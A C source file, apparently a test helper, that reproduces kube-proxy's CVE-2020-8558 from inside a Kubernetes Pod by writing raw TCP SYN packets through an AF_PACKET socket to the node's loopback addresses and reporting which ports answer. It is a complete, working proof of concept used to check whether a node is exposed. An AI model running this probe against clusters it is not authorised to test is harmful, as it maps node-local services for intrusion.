// syn_probe: what a hostile Pod does to reach its node's loopback (kube-proxy's CVE-2020-8558).
// For each IP PORT given, it writes a TCP SYN straight onto the Pod's eth0 with a packet socket
// (AF_PACKET: past the Pod's own routing, which never sends 127.0.0.0/8 out of an interface), to
// the default gateway's MAC, i.e. to the node, and listens for the answer. Prints one line per
// target, "IP:PORT answered" (SYN-ACK or RST: something on the node received the packet) or
// "IP:PORT silent" (nothing within 3 s), and exits 0 once every target was probed; 2 on a setup
// error (no CAP_NET_RAW, no eth0, no default route), saying which.
//
// Built static by real_node_test.cc and run as root in a Pod on the real node (CAP_NET_RAW is in
// containerd's default set). Linux only; no libraries beyond libc.
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char kIface[] = "eth0";

static void die(const char* what) {
  fprintf(stderr, "syn_probe: %s: %s\n", what, strerror(errno));
  exit(2);
}

static uint16_t checksum(const void* data, size_t len, uint32_t sum) {
  const uint8_t* p = data;
  for (; len > 1; len -= 2, p += 2) sum += (uint32_t)(p[0] << 8 | p[1]);
  if (len) sum += (uint32_t)(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

// The default gateway of eth0 (from /proc/net/route), in network order; 0 when there is none.
static uint32_t default_gateway(void) {
  FILE* f = fopen("/proc/net/route", "r");
  if (!f) die("open /proc/net/route");
  char line[256], name[32];
  unsigned dest, gw;
  uint32_t found = 0;
  while (fgets(line, sizeof line, f)) {
    if (sscanf(line, "%31s %x %x", name, &dest, &gw) == 3 && dest == 0 && strcmp(name, kIface) == 0) found = gw;
  }
  fclose(f);
  return found;
}

// The gateway's MAC from the ARP table, after a UDP datagram to it made the kernel resolve it.
static int gateway_mac(uint32_t gw, uint8_t mac[6]) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = gw};
  if (s >= 0) {
    (void)sendto(s, "x", 1, 0, (struct sockaddr*)&a, sizeof a);
    close(s);
  }
  char want[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &gw, want, sizeof want);
  for (int tries = 0; tries < 30; ++tries) {
    FILE* f = fopen("/proc/net/arp", "r");
    if (!f) die("open /proc/net/arp");
    char line[256], ip[64], hw[64];
    unsigned type, flags;
    while (fgets(line, sizeof line, f)) {
      if (sscanf(line, "%63s 0x%x 0x%x %63s", ip, &type, &flags, hw) == 4 && strcmp(ip, want) == 0 && (flags & 2) &&
          sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) {
        fclose(f);
        return 0;
      }
    }
    fclose(f);
    usleep(100 * 1000);
  }
  return -1;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc < 3 || argc % 2 == 0) {
    fprintf(stderr, "usage: syn_probe IP PORT [IP PORT]...\n");
    return 2;
  }
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (s < 0) die("packet socket (needs CAP_NET_RAW)");
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, kIface, IFNAMSIZ - 1);
  if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) die("index of eth0");
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) die("MAC of eth0");
  uint8_t src_mac[6];
  memcpy(src_mac, ifr.ifr_hwaddr.sa_data, 6);
  int d = socket(AF_INET, SOCK_DGRAM, 0);
  if (d < 0 || ioctl(d, SIOCGIFADDR, &ifr) < 0) die("address of eth0");
  close(d);
  uint32_t src_ip = ((struct sockaddr_in*)&ifr.ifr_addr)->sin_addr.s_addr;
  uint32_t gw = default_gateway();
  if (gw == 0) {
    errno = ENOENT;
    die("default route on eth0");
  }
  uint8_t gw_mac[6];
  if (gateway_mac(gw, gw_mac) < 0) {
    errno = EHOSTUNREACH;
    die("the gateway's MAC (ARP)");
  }
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex, .sll_halen = 6};
  memcpy(to.sll_addr, gw_mac, 6);
  if (bind(s, (struct sockaddr*)&(struct sockaddr_ll){.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
                                                      .sll_ifindex = ifindex},
           sizeof(struct sockaddr_ll)) < 0)
    die("bind to eth0");

  srand((unsigned)getpid() ^ (unsigned)time(NULL));
  for (int i = 1; i + 1 < argc; i += 2) {
    uint32_t dst_ip;
    if (inet_pton(AF_INET, argv[i], &dst_ip) != 1) {
      fprintf(stderr, "syn_probe: %s is not an IPv4 address\n", argv[i]);
      return 2;
    }
    uint16_t dst_port = (uint16_t)atoi(argv[i + 1]);
    uint16_t src_port = (uint16_t)(40000 + rand() % 20000);
    uint8_t frame[ETH_HLEN + sizeof(struct iphdr) + sizeof(struct tcphdr)];
    memset(frame, 0, sizeof frame);
    struct ethhdr* eth = (struct ethhdr*)frame;
    memcpy(eth->h_dest, gw_mac, 6);
    memcpy(eth->h_source, src_mac, 6);
    eth->h_proto = htons(ETH_P_IP);
    struct iphdr* ip = (struct iphdr*)(frame + ETH_HLEN);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr));
    ip->id = htons((uint16_t)rand());
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = src_ip;
    ip->daddr = dst_ip;
    ip->check = checksum(ip, sizeof *ip, 0);
    struct tcphdr* tcp = (struct tcphdr*)(ip + 1);
    tcp->source = htons(src_port);
    tcp->dest = htons(dst_port);
    tcp->seq = htonl((uint32_t)rand());
    tcp->doff = 5;
    tcp->syn = 1;
    tcp->window = htons(64240);
    // The TCP checksum covers a pseudo-header: addresses, protocol, TCP length.
    uint32_t pseudo = 0;
    pseudo += ntohs((uint16_t)(src_ip >> 16)) + ntohs((uint16_t)src_ip);
    pseudo += ntohs((uint16_t)(dst_ip >> 16)) + ntohs((uint16_t)dst_ip);
    pseudo += IPPROTO_TCP + sizeof(struct tcphdr);
    tcp->check = checksum(tcp, sizeof *tcp, pseudo);
    if (sendto(s, frame, sizeof frame, 0, (struct sockaddr*)&to, sizeof to) < 0) die("send the SYN");

    const char* result = "silent";
    for (double end = now() + 3; now() < end;) {
      struct pollfd p = {.fd = s, .events = POLLIN};
      if (poll(&p, 1, 100) <= 0) continue;
      uint8_t buf[2048];
      ssize_t n = recv(s, buf, sizeof buf, 0);
      if (n < (ssize_t)(ETH_HLEN + sizeof(struct iphdr) + sizeof(struct tcphdr))) continue;
      const struct iphdr* rip = (const struct iphdr*)(buf + ETH_HLEN);
      if (rip->protocol != IPPROTO_TCP || rip->saddr != dst_ip || rip->daddr != src_ip) continue;
      const struct tcphdr* rtcp = (const struct tcphdr*)((const uint8_t*)rip + rip->ihl * 4);
      if (rtcp->source != htons(dst_port) || rtcp->dest != htons(src_port)) continue;
      if ((rtcp->syn && rtcp->ack) || rtcp->rst) {
        result = "answered";
        break;
      }
    }
    printf("%s:%u %s\n", argv[i], dst_port, result);
    fflush(stdout);
  }
  return 0;
}
